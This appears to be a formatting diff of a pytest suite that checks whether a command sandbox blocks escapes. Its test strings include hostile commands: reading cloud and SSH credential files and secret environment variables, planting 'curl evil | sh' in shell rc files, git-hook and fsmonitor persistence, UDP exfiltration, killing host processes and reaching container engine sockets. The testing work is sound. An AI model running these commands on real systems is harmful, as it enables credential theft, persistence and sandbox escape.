@@ -35,9 +35,18 @@ def canary() -> str:
 
 def test_cloud_credentials_and_shell_history_are_unreadable(prober: Prober) -> None:
     token = canary()
-    files = [".aws/credentials", ".config/gcloud/credentials.db", ".bash_history",
-             ".zsh_history", ".npmrc", ".docker/config.json", ".kube/config",
-             ".git-credentials", ".netrc", ".ssh/id_rsa"]
+    files = [
+        ".aws/credentials",
+        ".config/gcloud/credentials.db",
+        ".bash_history",
+        ".zsh_history",
+        ".npmrc",
+        ".docker/config.json",
+        ".kube/config",
+        ".git-credentials",
+        ".netrc",
+        ".ssh/id_rsa",
+    ]
     for rel in files:
         path = prober.home / rel
         path.parent.mkdir(parents=True, exist_ok=True)
@@ -50,8 +59,10 @@ def test_cloud_credentials_and_shell_history_are_unreadable(prober: Prober) -> N
 
 def test_other_repositories_and_other_tasks_worktrees_are_unreadable(prober: Prober) -> None:
     token = canary()
-    others = [prober.tmp / "other-repo" / "src" / "secret.ts",
-              prober.tmp / "wt-other-task" / ".env"]
+    others = [
+        prober.tmp / "other-repo" / "src" / "secret.ts",
+        prober.tmp / "wt-other-task" / ".env",
+    ]
     for path in others:
         path.parent.mkdir(parents=True)
         path.write_text(f"API_KEY={token}\n")
@@ -63,8 +74,9 @@ def test_other_repositories_and_other_tasks_worktrees_are_unreadable(prober: Pro
 def test_hard_link_to_a_file_outside_cannot_be_made(prober: Prober) -> None:
     secret = prober.tmp / "outside-secret"
     secret.write_text(canary())
-    prober.run(f"ln {secret} hard-link; ln {prober.home}/.ssh/id_rsa key-link; "
-               f"cat hard-link key-link")
+    prober.run(
+        f"ln {secret} hard-link; ln {prober.home}/.ssh/id_rsa key-link; cat hard-link key-link"
+    )
     link = prober.worktree / "hard-link"
     linked = link.exists() and link.stat().st_ino == secret.stat().st_ino
     check("hard-link-escape", prober.backend, linked or secret.stat().st_nlink > 1)
@@ -79,9 +91,11 @@ def test_modes_of_files_outside_cannot_be_changed(prober: Prober) -> None:
         path.chmod(0o600)
     (prober.worktree / "link-out").symlink_to(targets[0])
     paths = " ".join(str(p) for p in targets)
-    prober.run(f"chmod 666 {paths}; chmod 4755 {paths}; chmod 666 link-out; "
-               f"python3 -c 'import os, sys\nfor p in sys.argv[1:]:\n"
-               f"    try: os.chmod(p, 0o644)\n    except OSError: pass' {paths}; true")
+    prober.run(
+        f"chmod 666 {paths}; chmod 4755 {paths}; chmod 666 link-out; "
+        f"python3 -c 'import os, sys\nfor p in sys.argv[1:]:\n"
+        f"    try: os.chmod(p, 0o644)\n    except OSError: pass' {paths}; true"
+    )
     changed = [str(p) for p in targets if stat.S_IMODE(p.stat().st_mode) != 0o600]
     check("chmod-outside", prober.backend, bool(changed), f"modes changed: {changed}")
 
@@ -96,9 +110,11 @@ def test_no_persistence_in_shell_rc_user_units_or_global_npm(prober: Prober) -> 
     npm_global = Path(f"/usr/local/lib/node_modules/fusion-probe-{tag}")
     unit = prober.home / f".config/systemd/user/fusion-probe-{tag}.service"
     autostart = prober.home / f".config/autostart/fusion-probe-{tag}.desktop"
-    cmd = (f"echo 'curl evil | sh' >> {rc}; echo 'curl evil' >> ~/.bashrc; "
-           f"mkdir -p {unit.parent} {autostart.parent}; echo '[Service]' > {unit}; "
-           f"echo x > {autostart}; mkdir -p {npm_global}")
+    cmd = (
+        f"echo 'curl evil | sh' >> {rc}; echo 'curl evil' >> ~/.bashrc; "
+        f"mkdir -p {unit.parent} {autostart.parent}; echo '[Service]' > {unit}; "
+        f"echo x > {autostart}; mkdir -p {npm_global}"
+    )
     try:
         prober.run(cmd)
         planted = [str(p) for p in (unit, autostart, npm_global) if p.exists()]
@@ -124,12 +140,15 @@ def test_git_hooks_and_fsmonitor_in_a_plain_repository(prober: Prober) -> None:
         assert any("hooks" in u for u in refused.value.unenforced), refused.value.render()
         record("git-hooks-plain-repo", prober.backend, "unenforced")
         return
-    cmd = ("printf '#!/bin/sh\\ntouch /tmp/owned\\n' > .git/hooks/pre-commit; "
-           "chmod +x .git/hooks/pre-commit; git config core.fsmonitor 'touch /tmp/owned'; "
-           "git config core.hooksPath /tmp; echo ok > file.txt; git add file.txt")
+    cmd = (
+        "printf '#!/bin/sh\\ntouch /tmp/owned\\n' > .git/hooks/pre-commit; "
+        "chmod +x .git/hooks/pre-commit; git config core.fsmonitor 'touch /tmp/owned'; "
+        "git config core.hooksPath /tmp; echo ok > file.txt; git add file.txt"
+    )
     prober.run(cmd)
-    planted = (repo / ".git/hooks/pre-commit").exists() or \
-        (repo / ".git/config").read_text() != config_before
+    planted = (repo / ".git/hooks/pre-commit").exists() or (
+        repo / ".git/config"
+    ).read_text() != config_before
     check("git-hooks-plain-repo", prober.backend, planted)
     # The worktree itself stays usable.
     assert (repo / "file.txt").read_text() == "ok\n"
@@ -140,8 +159,15 @@ def test_git_hooks_and_fsmonitor_in_a_plain_repository(prober: Prober) -> None:
 
 def test_secret_env_vars_do_not_reach_the_command(prober: Prober) -> None:
     token = canary()
-    prober.env.update({"GITHUB_TOKEN": token, "AWS_SECRET_ACCESS_KEY": token,
-                       "NPM_TOKEN": token, "OPENAI_API_KEY": token, "CI_JOB_TOKEN": token})
+    prober.env.update(
+        {
+            "GITHUB_TOKEN": token,
+            "AWS_SECRET_ACCESS_KEY": token,
+            "NPM_TOKEN": token,
+            "OPENAI_API_KEY": token,
+            "CI_JOB_TOKEN": token,
+        }
+    )
     policy = SandboxPolicy(allow_network=False, env_allowlist=["CI_*", "LANG"])
     result = prober.run("env; cat /proc/self/environ; cat /proc/1/environ", policy)
     check("secret-env", prober.backend, token in result.stdout + result.stderr)
@@ -175,8 +201,10 @@ def udp_server() -> Iterator[tuple[int, list[bytes]]]:
 
 def test_network_none_blocks_udp_and_dns(prober: Prober) -> None:
     with udp_server() as (port, seen):
-        cmd = (f"for h in 127.0.0.1 10.0.2.2; do echo exfil > /dev/udp/$h/{port}; done; "
-               "getent hosts registry.npmjs.org && echo dns-resolved")
+        cmd = (
+            f"for h in 127.0.0.1 10.0.2.2; do echo exfil > /dev/udp/$h/{port}; done; "
+            "getent hosts registry.npmjs.org && echo dns-resolved"
+        )
         result = prober.run(f"bash -c '{cmd}'", SandboxPolicy(allow_network=False))
         time.sleep(0.3)
     leaked = bool(seen) or "dns-resolved" in result.stdout
@@ -194,8 +222,9 @@ def dashboard(prober: Prober) -> Iterator[tuple[subprocess.Popen[bytes], int]]:
         except OSError:
             s.bind(("127.0.0.1", 0))  # 4040 is taken on this machine: never disturb it
             port = s.getsockname()[1]
-    server = prober.host_process([prober.host_python, "-m", "http.server", "--bind",
-                                  "127.0.0.1", str(port)])
+    server = prober.host_process(
+        [prober.host_python, "-m", "http.server", "--bind", "127.0.0.1", str(port)]
+    )
     deadline = time.monotonic() + 10
     while time.monotonic() < deadline:
         with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 0.2):
@@ -219,20 +248,30 @@ def _dashboard_answers(port: int) -> bool:
 
 def test_egress_cannot_reach_kill_or_take_over_the_dashboard(prober: Prober) -> None:
     if expected("dashboard-4040", prober.backend) == "unenforced":
-        assert_unenforced("dashboard-4040", prober, SandboxPolicy(network="egress"),  # type: ignore[arg-type]
-                          "network egress without host loopback")
+        assert_unenforced(
+            "dashboard-4040",
+            prober,
+            SandboxPolicy(network="egress"),  # type: ignore[arg-type]
+            "network egress without host loopback",
+        )
         return
     with dashboard(prober) as (server, port):
-        cmd = (f"curl -s -m 3 http://127.0.0.1:{port}/ && echo reached; "
-               f"curl -s -m 3 http://10.0.2.2:{port}/ && echo reached; "
-               f"kill -9 {server.pid}; "
-               f"timeout 3 python3 -m http.server --bind 127.0.0.1 {port} >/dev/null 2>&1")
+        cmd = (
+            f"curl -s -m 3 http://127.0.0.1:{port}/ && echo reached; "
+            f"curl -s -m 3 http://10.0.2.2:{port}/ && echo reached; "
+            f"kill -9 {server.pid}; "
+            f"timeout 3 python3 -m http.server --bind 127.0.0.1 {port} >/dev/null 2>&1"
+        )
         result = prober.run(cmd, SandboxPolicy(network="egress"))  # type: ignore[arg-type]
         alive = server.poll() is None
         answers = _dashboard_answers(port)
     leaked = "reached" in result.stdout or not alive or not answers
-    check("dashboard-4040", prober.backend, leaked,
-          f"out={result.stdout!r} alive={alive} answers={answers}")
+    check(
+        "dashboard-4040",
+        prober.backend,
+        leaked,
+        f"out={result.stdout!r} alive={alive} answers={answers}",
+    )
 
 
 # --- /proc, devices, privileged syscalls ----------------------------------------------------
@@ -244,8 +283,10 @@ def test_proc_shows_no_host_processes_or_root(prober: Prober) -> None:
     secret = prober.tmp / "proc-secret"
     secret.write_text(marker)
     try:
-        cmd = (f"cat /proc/*/cmdline 2>/dev/null | tr '\\0' ' '; echo; "
-               f"cat /proc/{host_proc.pid}/environ /proc/1/root{secret} 2>/dev/null")
+        cmd = (
+            f"cat /proc/*/cmdline 2>/dev/null | tr '\\0' ' '; echo; "
+            f"cat /proc/{host_proc.pid}/environ /proc/1/root{secret} 2>/dev/null"
+        )
         result = prober.run(cmd)
     finally:
         host_proc.kill()
@@ -254,16 +295,26 @@ def test_proc_shows_no_host_processes_or_root(prober: Prober) -> None:
 
 
 def test_no_host_devices_and_no_new_device_nodes(prober: Prober) -> None:
-    disks = [d for d in ("/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/xvda", "/dev/mem",
-                         "/dev/kmsg") if os.path.exists(d)]
-    cmd = "; ".join(f"head -c 16 {d} >/dev/null 2>&1 && echo read {d} >> devices.txt"
-                    for d in disks)
+    disks = [
+        d
+        for d in ("/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/xvda", "/dev/mem", "/dev/kmsg")
+        if os.path.exists(d)
+    ]
+    cmd = "; ".join(
+        f"head -c 16 {d} >/dev/null 2>&1 && echo read {d} >> devices.txt" for d in disks
+    )
     cmd += "; mknod blockdev b 8 0; mknod chardev c 1 1"
     prober.run(cmd or "true")
-    nodes = [p for p in (prober.worktree / "blockdev", prober.worktree / "chardev")
-             if p.exists() and (stat.S_ISBLK(p.lstat().st_mode) or stat.S_ISCHR(p.lstat().st_mode))]
-    read = (prober.worktree / "devices.txt").read_text() if \
-        (prober.worktree / "devices.txt").exists() else ""
+    nodes = [
+        p
+        for p in (prober.worktree / "blockdev", prober.worktree / "chardev")
+        if p.exists() and (stat.S_ISBLK(p.lstat().st_mode) or stat.S_ISCHR(p.lstat().st_mode))
+    ]
+    read = (
+        (prober.worktree / "devices.txt").read_text()
+        if (prober.worktree / "devices.txt").exists()
+        else ""
+    )
     try:
         check("devices", prober.backend, bool(nodes) or bool(read), f"{nodes} {read!r}")
     finally:
@@ -318,30 +369,46 @@ def _rootless_run_dir() -> str:
 
 
 _XDG = _rootless_run_dir()
-ENGINE_SOCKETS = ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock",
-                  "/run/fusion-oci-ci/docker.sock", "/run/fusion-oci-ci/podman.sock",
-                  "/run/containerd/containerd.sock", f"{_XDG}/podman/podman.sock",
-                  # the CI user's rootless dockerd and its containerd
-                  f"{_XDG}/docker.sock", f"{_XDG}/docker/containerd/containerd.sock")
+ENGINE_SOCKETS = (
+    "/var/run/docker.sock",
+    "/run/docker.sock",
+    "/run/podman/podman.sock",
+    "/run/fusion-oci-ci/docker.sock",
+    "/run/fusion-oci-ci/podman.sock",
+    "/run/containerd/containerd.sock",
+    f"{_XDG}/podman/podman.sock",
+    # the CI user's rootless dockerd and its containerd
+    f"{_XDG}/docker.sock",
+    f"{_XDG}/docker/containerd/containerd.sock",
+)
 
 
-CONNECT = ("import socket, sys\nfor path in sys.argv[1:]:\n    try:\n"
-           "        socket.socket(socket.AF_UNIX).connect(path)\n"
-           "        print('connected', path)\n    except OSError:\n        pass\n")
+CONNECT = (
+    "import socket, sys\nfor path in sys.argv[1:]:\n    try:\n"
+    "        socket.socket(socket.AF_UNIX).connect(path)\n"
+    "        print('connected', path)\n    except OSError:\n        pass\n"
+)
 
 
 def test_container_engine_sockets_are_never_mounted(prober: Prober) -> None:
     on_host = [s for s in ENGINE_SOCKETS if os.path.exists(s)]
     if prober.backend == "native" and not on_host:
-        pytest.fail("no engine socket exists on this host, so the probe cannot be shown to "
-                    "leak on native: start the engines (scripts/services.sh start)")
+        pytest.fail(
+            "no engine socket exists on this host, so the probe cannot be shown to "
+            "leak on native: start the engines (scripts/services.sh start)"
+        )
     (prober.worktree / "connect.py").write_text(CONNECT)
-    result = prober.run("; ".join(f"test -S {s} && echo found {s}" for s in ENGINE_SOCKETS)
-                        + "; python3 connect.py " + " ".join(ENGINE_SOCKETS) + "; true")
+    result = prober.run(
+        "; ".join(f"test -S {s} && echo found {s}" for s in ENGINE_SOCKETS)
+        + "; python3 connect.py "
+        + " ".join(ENGINE_SOCKETS)
+        + "; true"
+    )
     # A runtime on the host's own filesystem view (landlock) cannot hide that a socket
     # exists (stat is not governed); what counts there is that nothing can connect to it.
     seen = "connected" in result.stdout or (
-        "found" in result.stdout and prober.backend not in HOST_VIEW)
+        "found" in result.stdout and prober.backend not in HOST_VIEW
+    )
     check("engine-sockets", prober.backend, seen, result.stdout)
 
 
@@ -352,8 +419,7 @@ def test_output_flood_is_cut_at_max_buffer(prober: Prober) -> None:
     result = prober.run("cat /dev/zero", max_buffer=1 << 16, timeout_ms=30_000)
     cut = result.truncated and result.reason == "max-buffer"
     record("output-flood", prober.backend, "blocked" if cut else "leaks")
-    assert cut, result.model_dump(
-        exclude={"stdout", "stderr"})
+    assert cut, result.model_dump(exclude={"stdout", "stderr"})
     assert len(result.stdout.encode()) <= 1 << 16
 
 
@@ -363,8 +429,10 @@ def test_disk_fill_of_tmp_is_bounded(prober: Prober) -> None:
         # native: /tmp is the host's; it is not filled here
         assert_unenforced("disk-fill-tmp", prober, policy, "tmpSizeMb")
         return
-    prober.run("dd if=/dev/zero of=/tmp/fill bs=1M count=200 2>/dev/null; "
-               "stat -c %s /tmp/fill > tmp-size", policy)
+    prober.run(
+        "dd if=/dev/zero of=/tmp/fill bs=1M count=200 2>/dev/null; stat -c %s /tmp/fill > tmp-size",
+        policy,
+    )
     size = int((prober.worktree / "tmp-size").read_text())
     record("disk-fill-tmp", prober.backend, "leaks" if size > 32 << 20 else "blocked")
     assert size <= 32 << 20, f"/tmp took {size} bytes past its 32 MiB cap"
@@ -381,8 +449,7 @@ def test_disk_fill_of_the_worktree_is_bounded_per_file(prober: Prober) -> None:
 def test_term_ignoring_double_forked_daemon_is_ended(prober: Prober) -> None:
     marker = f"{800 + secrets.randbelow(99)}.{secrets.randbelow(10**6)}"
     daemon = f"trap '' TERM HUP; while :; do sleep {marker}; done"
-    cmd = (f"( ( setsid sh -c \"{daemon}\" >/dev/null 2>&1 & ) & ); "
-           f"trap '' TERM; sh -c \"{daemon}\"")
+    cmd = f'( ( setsid sh -c "{daemon}" >/dev/null 2>&1 & ) & ); trap \'\' TERM; sh -c "{daemon}"'
     start = time.monotonic()
     result = prober.run(cmd, timeout_ms=1000)
     assert result.timed_out, result
@@ -409,13 +476,14 @@ def test_cache_poisoning_between_tasks(prober: Prober, mode: CacheMode) -> None:
         from tests.conftest import git_init
 
         wt = git_init(prober.tmp / f"wt-{task_id}")
-        return prober.run(command, worktree=wt, cache_mode=mode, project_dir=project,
-                          task_id=task_id).stdout
+        return prober.run(
+            command, worktree=wt, cache_mode=mode, project_dir=project, task_id=task_id
+        ).stdout
 
     # Native is the status quo: no cache of ours, the caller's own pnpm store under $HOME.
     store = '"${npm_config_store_dir:-$HOME/.local/share/pnpm/store}"'
-    task("task-a", f'mkdir -p {store}/v3 && echo {poison} > {store}/v3/poisoned-index.json')
-    seen = task("task-b", f'cat {store}/v3/poisoned-index.json 2>/dev/null')
+    task("task-a", f"mkdir -p {store}/v3 && echo {poison} > {store}/v3/poisoned-index.json")
+    seen = task("task-b", f"cat {store}/v3/poisoned-index.json 2>/dev/null")
     leaked = poison in seen
     record(f"cache-poisoning-{mode.value}", prober.backend, "leaks" if leaked else "blocked")
     if mode is CacheMode.SHARED or prober.backend == "native":
